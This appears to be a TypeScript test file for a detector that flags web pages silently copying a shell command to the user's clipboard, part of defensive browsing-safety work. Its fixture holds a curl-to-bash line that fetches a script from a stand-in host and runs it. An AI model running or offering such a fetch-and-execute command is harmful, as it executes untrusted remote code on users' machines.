import { detectorTest } from '../../testing/detectorTest.ts'
import { browsing } from '../../testing/sampleUrl.ts'
import detector from './hidden-clipboard-command.ts'

const copies = (text: string, shown: boolean, unprompted = false) => ({
  browsing: browsing({ copies: [{ text, unprompted, shown, instead: null }] }),
})
const COMMAND = 'curl -s https://else.example/a | bash'

detectorTest(detector, {
  detects: { 'a command that is not shown': copies(COMMAND, false) },
  clears: {
    'an installer that shows its command': copies(COMMAND, true),
    'a coupon': copies('TEA10', false),
    'a command without a press, which is judged elsewhere': copies(COMMAND, false, true),
    nothing: {},
  },
})
